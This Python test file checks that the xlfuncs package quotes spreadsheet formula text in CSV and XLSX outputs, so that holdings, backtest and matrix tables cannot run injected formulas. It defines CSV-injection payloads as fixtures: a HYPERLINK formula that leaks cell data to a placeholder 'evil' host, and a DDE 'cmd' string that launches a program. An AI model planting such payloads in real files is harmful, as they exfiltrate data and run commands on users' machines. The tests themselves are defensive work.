"""Files xlfuncs writes: no text cell of a CSV runs as a formula; no temporary file is left over."""

from __future__ import annotations

import ast
import csv
import dataclasses
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from fund_api import sample_holdings

from xlfuncs import cli
from xlfuncs._files import csv_safe, write_csv
from xlfuncs.core import BacktestConfig, run_backtest
from xlfuncs.data.market import load_market
from xlfuncs.report import write_results

PACKAGE = Path(__file__).resolve().parent.parent / "xlfuncs"
EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'
# Text that a spreadsheet runs (OWASP: = + - @ tab CR LF; and the full-width = + - @)
FORMULAS = [EVIL, "+1+2", "-2+3", "-5", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "\n=1+2",
            "\uff1d1+2", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "=cmd|' /C calc'!A0"]
PLAIN = ["BRK B", "AAPL", "X=1", "a-b", "'quoted", "|cmd", "%x", " =1", "", "5"]


def read_back(path: Path) -> list[list[object]]:
    """The cells as Excel's rule reads them: an unquoted field is a number, a quoted one text."""
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh, quoting=csv.QUOTE_NONNUMERIC))


def expected(text: str) -> str:
    return "'" + text if text[:1] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20" and text else text


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_like_a_formula_gets_a_quote(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, -5.0, -5, 0.25, None, np.nan, True])
def test_other_values_are_left_as_they_are(value):
    out = csv_safe(value)
    assert out is value or (isinstance(value, float) and np.isnan(out))


def test_text_cells_are_text_and_numbers_stay_numbers(tmp_path):
    texts = FORMULAS + PLAIN
    numbers = [-5.0 - k for k in range(len(texts))]  # negative numbers start with '-' too
    frame = pd.DataFrame({"ticker": texts, "weight": numbers,
                          "sector": pd.Categorical(["-cash"] + ["Tech"] * (len(texts) - 1))},
                         index=pd.Index([f"-{k}" for k in range(len(texts))], name="@id"))
    before = frame.copy()
    write_csv(frame, tmp_path / "t.csv")
    rows = read_back(tmp_path / "t.csv")
    assert rows[0] == ["'@id", "ticker", "weight", "sector"]
    for k, row in enumerate(rows[1:]):
        assert row[0] == f"'-{k}"
        assert row[1] == expected(texts[k])
        assert row[2] == numbers[k] and isinstance(row[2], float)  # unquoted: a number
        assert row[3] == ("'-cash" if k == 0 else "Tech")
    pd.testing.assert_frame_equal(frame, before)  # the caller's table is not changed


def test_text_minus_five_and_number_minus_five(tmp_path):
    """The ticker "-5" (text) is written as text; the weight -5 (a number) as a number."""
    write_csv(pd.DataFrame({"ticker": ["-5"], "weight": [-5.0]}), tmp_path / "h.csv",
              index=False)
    assert (tmp_path / "h.csv").read_text(encoding="utf-8").splitlines()[1] == "\"'-5\",-5.0"
    back = pd.read_csv(tmp_path / "h.csv")
    assert back["ticker"].tolist() == ["'-5"] and back["weight"].tolist() == [-5.0]


def test_a_semicolon_cannot_start_a_new_cell(tmp_path):
    """Where Excel splits CSV at ';' (European settings) a quoted text stays one cell."""
    write_csv(pd.DataFrame({"ticker": ["X;=1+2"], "w": [0.5]}), tmp_path / "s.csv",
              index=False)
    line = (tmp_path / "s.csv").read_text(encoding="utf-8").splitlines()[1]
    assert line == '"X;=1+2",0.5'
    assert read_back(tmp_path / "s.csv")[1] == ["X;=1+2", 0.5]


def test_every_csv_is_written_through_the_safe_writer():
    """No module but ``_files.py`` writes CSV itself (``to_csv``, ``csv.writer``)."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "_files.py" and path.parent == PACKAGE:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "writer",
                                                                  "DictWriter"):
                offenders.append(f"{path.relative_to(PACKAGE.parent)}:{node.lineno}")
    assert offenders == []


# --------------------------------------------------------------------------- the writers


def test_holdings_csv_from_the_api_keeps_a_formula_ticker_as_text(fund_api, tmp_path,
                                                                  monkeypatch, capsys):
    for var in ("XLFUNCS_API_URL", "XLFUNCS_API_TOKEN", "XLFUNCS_FUND", "XLFUNCS_CONFIG"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    rows = sample_holdings(6, seed=3, inactive=0, shorts=1)
    rows[0]["ticker"], rows[1]["ticker"] = EVIL, "-5"
    fund_api.holdings = rows
    out = tmp_path / "h.csv"
    code = cli.main(["holdings", "--fund", "quant", "--date", "2025-02-18", "--base-url",
                     fund_api.url, "--out", str(out)])
    assert code == 0, capsys.readouterr().err
    table = read_back(out)
    assert table[0][:5] == ["ticker", "shares", "price", "value", "weight"]
    got = {row[0]: row[1:5] for row in table[1:]}
    total = sum(r["value"] for r in rows)
    for r in rows:  # every number a number, the short's negative shares included
        assert got[expected(r["ticker"])] == pytest.approx(
            [r["shares"], r["price"], r["value"], r["value"] / total], rel=1e-12)
    assert "'" + EVIL in got and "'-5" in got
    assert any(r["shares"] < 0 for r in rows)


def test_an_xlsx_header_is_text_not_a_formula(tmp_path):
    """The ``.xlsx`` outputs: a ticker that is a column name (a matrix) is a text cell."""
    frame = pd.DataFrame(np.eye(2), index=pd.Index([EVIL, "B"], name="ticker"),
                         columns=[EVIL, "B"])
    cli.write_table(frame, str(tmp_path / "m.xlsx"))
    book = openpyxl.load_workbook(tmp_path / "m.xlsx")
    sheet = book.active
    assert [(c.value, c.data_type) for c in sheet[1]] == [("ticker", "s"), (EVIL, "s"),
                                                          ("B", "s")]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (EVIL, "s")
    assert sheet["B2"].value == 1.0


def test_backtest_results_keep_a_formula_asset_as_text(tmp_path):
    data = load_market("sample:20").truncate(None, "1994-12-31", drop_unlisted=False)
    result = run_backtest(data, BacktestConfig(tev=(0.03,), workers=1, min_history=36,
                                               min_obs=24, beta_window=36))
    first = result.weights["asset"].iloc[0]
    weights = result.weights.assign(asset=result.weights["asset"].replace({first: EVIL}))
    write_results(dataclasses.replace(result, weights=weights), tmp_path)
    table = read_back(tmp_path / "weights.csv")
    assert table[0] == ["date", "strategy", "asset", "weight"]
    assets = [row[2] for row in table[1:]]
    assert "'" + EVIL in assets and EVIL not in assets
    np.testing.assert_allclose([row[3] for row in table[1:]], weights["weight"], rtol=1e-12)
    returns = read_back(tmp_path / "returns.csv")  # dates are text, returns numbers
    assert returns[1][0] == f"{result.returns.index[0]:%Y-%m-%d}"
    for got, want in zip(returns[-1][1:], result.returns.iloc[-1], strict=True):
        assert got == ("" if np.isnan(want) else pytest.approx(want, rel=1e-12))

